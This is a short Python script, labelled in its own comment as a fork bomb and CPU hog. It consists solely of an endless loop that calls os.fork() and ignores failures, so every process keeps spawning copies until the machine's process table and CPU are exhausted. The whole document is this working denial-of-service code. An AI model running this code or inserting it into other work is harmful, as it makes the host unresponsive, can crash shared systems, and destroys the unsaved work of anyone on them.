# Every process forks as long as it can, and spins: a fork bomb and a CPU hog at once.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
